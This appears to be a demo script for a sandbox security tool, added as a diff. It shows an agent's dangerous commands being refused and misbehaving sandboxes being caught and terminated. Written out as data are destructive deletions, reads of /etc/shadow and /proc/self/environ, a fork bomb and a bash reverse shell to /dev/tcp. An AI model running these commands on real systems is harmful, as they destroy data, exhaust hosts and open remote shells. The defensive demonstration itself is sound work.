@@ -1,0 +1,132 @@
+"""A short live scenario on the embedded default: what ``deploy/local/demo.sh`` runs.
+
+Four sandboxes under one policy: a well-behaved one does real work; an agent's
+dangerous commands are refused before they run; a CPU miner is caught pinned at its
+quota; a fork bomb is held by the kernel and caught by its pids counter; a reverse
+shell is terminated at once. Then the security report, from the embedded history.
+Every step prints what happened; the JSON summary at the end is what the test checks.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+from sandbox import CommandDeniedError, PathDeniedError, SandboxTerminated, ValidationDenied
+from sandguard.facade import SandboxManager
+from schemas import DetectionSettings, NetworkPolicy, ResourceLimits, SecurityPolicy
+
+BUSYBOX = "sandguard/busybox:1"
+# Windows short enough for a demo: a level rule needs 2 samples in 10 s.
+DEMO_DETECTION = DetectionSettings(window_seconds=10, min_samples=2, escalation_window_seconds=120)
+# How long the demo waits for the pipeline to see and judge (1 s samples; rules need 2-3).
+WAIT_S = 25.0
+
+# Commands an over-eager agent might try; each is refused by parsing, not by substrings.
+REFUSED_COMMANDS = (
+    "rm -rf /work/*",
+    "echo ok && sudo id",
+    "python3 -c 'print(1)'; /bin/r\\m -f x",
+    'sh -c "kill -9 1"',
+    "find /work -name '*.py' -exec rm {} ;",
+    "$CMD /etc/passwd",
+)
+REFUSED_PATHS = ("../../etc/passwd", "/etc/shadow", "/work/notes.exe", "/proc/self/environ")
+
+
+def demo_policy() -> SecurityPolicy:
+    return SecurityPolicy(
+        name="demo",
+        resource_limits=ResourceLimits(memory_mb=128, cpu_percent=25.0, max_processes=24, execution_timeout=180),
+        network_policy=NetworkPolicy.NONE,
+        violation_threshold=3,
+        auto_terminate_on_violation=True,
+        detection=DEMO_DETECTION,
+    )
+
+
+class Demo:
+    def __init__(self, manager: SandboxManager, say: Callable[[str], None]) -> None:
+        self.m = manager
+        self.say = say
+        self.summary: dict[str, Any] = {"refused_commands": 0, "refused_paths": 0}
+
+    async def well_behaved(self) -> str:
+        sid = await self.m.create_sandbox(labels={"demo": "worker"})
+        self.say(f"[worker] sandbox {sid[:12]} (python image, no network, read-only root)")
+        await self.m.write_file(sid, "/work/job.py", "import json, statistics\n"
+                                "print(json.dumps({'mean': statistics.mean(range(1000))}))\n")  # fmt: skip
+        result = await self.m.execute(sid, "python3 /work/job.py", timeout=30)
+        self.say(f"[worker] python3 /work/job.py -> exit {result.exit_code}: {result.stdout.strip()}")
+        who = await self.m.execute(sid, "id -u; cat /proc/self/status | grep CapEff", timeout=10)
+        self.say(f"[worker] uid and capabilities: {' '.join(who.stdout.split())}")
+        self.summary["worker_output"] = result.stdout.strip()
+        return sid
+
+    async def refusals(self, sid: str) -> None:
+        for command in REFUSED_COMMANDS:
+            try:
+                await self.m.execute(sid, command, timeout=10)
+                self.say(f"[agent] NOT refused: {command}")
+            except CommandDeniedError as exc:
+                self.summary["refused_commands"] += 1
+                self.say(f"[agent] refused {command!r}: {exc.word!r}, {exc.reason}")
+        for path in REFUSED_PATHS:
+            try:
+                await self.m.read_file(sid, path)
+                self.say(f"[agent] NOT refused: {path}")
+            except (PathDeniedError, ValidationDenied) as exc:
+                self.summary["refused_paths"] += 1
+                self.say(f"[agent] refused {path!r}: {exc.reason}")
+
+    async def misbehaving(self) -> dict[str, str]:
+        miner = await self.m.create_sandbox(image=BUSYBOX, labels={"demo": "miner"})
+        bomb = await self.m.create_sandbox(image=BUSYBOX, labels={"demo": "forkbomb"})
+        shell = await self.m.create_sandbox(image=BUSYBOX, labels={"demo": "reverse-shell"})
+        self.say(f"[miner] {miner[:12]}: a CPU hog under a 25 % quota")
+        self.say(f"[forkbomb] {bomb[:12]}: forks until the pids limit (24)")
+        self.say(f"[reverse-shell] {shell[:12]}: a shell wired to /dev/tcp")
+        hogs = [
+            self.m.execute(miner, "sh -c 'while :; do :; done'", timeout=WAIT_S),
+            self.m.execute(bomb, "sh -c 'b(){ b | b & }; b'", timeout=WAIT_S),
+            self.m.execute(shell, "sh -c 'while :; do sleep 1; done; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
+                           timeout=WAIT_S),
+        ]  # fmt: skip
+        results = await asyncio.gather(*hogs, return_exceptions=True)
+        for name, r in zip(("miner", "forkbomb", "reverse-shell"), results, strict=True):
+            outcome = type(r).__name__ if isinstance(r, BaseException) else f"exit {r.exit_code}"
+            self.say(f"[{name}] command ended: {outcome}")
+        return {"miner": miner, "forkbomb": bomb, "reverse-shell": shell}
+
+    async def outcomes(self, sandboxes: dict[str, str]) -> None:
+        for name, sid in sandboxes.items():
+            try:
+                await self.m.execute(sid, "echo still here", timeout=5)
+                self.say(f"[{name}] still running")
+                self.summary.setdefault("running", []).append(name)
+            except SandboxTerminated as exc:
+                self.say(f"[{name}] terminated: {exc}")
+                self.summary.setdefault("terminated", []).append(name)
+            report = await self.m.get_security_report(sid)
+            rules = report.get("violations_by_rule") or report.get("violation_rules") or {}
+            self.say(f"[{name}] report: {report.get('total_violations', 0)} violations {dict(rules)}")
+            self.summary.setdefault("violations", {})[name] = report.get("total_violations", 0)
+
+
+async def run_demo(*, data_dir: Path, say: Callable[[str], None] = print) -> dict[str, Any]:
+    """Runs the scenario; returns the summary (also printed as JSON by the CLI)."""
+    started = time.monotonic()
+    manager = SandboxManager(demo_policy(), data_dir=data_dir)
+    demo = Demo(manager, say)
+    try:
+        worker = await demo.well_behaved()
+        await demo.refusals(worker)
+        bad = await demo.misbehaving()
+        await demo.outcomes({"worker": worker, **bad})
+    finally:
+        await manager.cleanup()
+    demo.summary["seconds"] = round(time.monotonic() - started, 1)
+    return demo.summary
